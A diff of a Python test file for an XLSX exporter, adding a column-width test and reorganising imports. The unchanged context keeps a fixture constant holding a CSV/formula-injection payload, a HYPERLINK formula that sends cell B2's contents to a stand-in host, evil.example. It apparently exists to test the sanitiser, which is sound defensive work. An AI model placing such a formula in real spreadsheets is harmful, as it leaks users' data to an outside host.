@@ -11,7 +11,13 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
 
-from profrost.core.exporters import FORMULA_PREFIXES, restore_text, safe_text, write_xlsx
+from profrost.core.exporters import (
+    FORMULA_PREFIXES,
+    MAX_WIDTH,
+    restore_text,
+    safe_text,
+    write_xlsx,
+)
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Открыть")'
 
@@ -113,3 +119,13 @@ def test_restore_text_gives_back_what_safe_text_wrote(text):
 @given(st.text())
 def test_safe_text_never_starts_with_a_formula_prefix(text):
     assert not safe_text(text).startswith(FORMULA_PREFIXES)
+
+
+def test_columns_are_as_wide_as_their_longest_value_within_the_bound():
+    sheet = written(["Фамилия", "Дата", "Текст"], [["Иванова", date(2025, 3, 14), "ж" * 500]])
+
+    assert [sheet.column_dimensions[letter].width for letter in "ABC"] == [
+        len("Фамилия") + 2,
+        len("ДД.ММ.ГГГГ") + 2,
+        MAX_WIDTH + 2,
+    ]
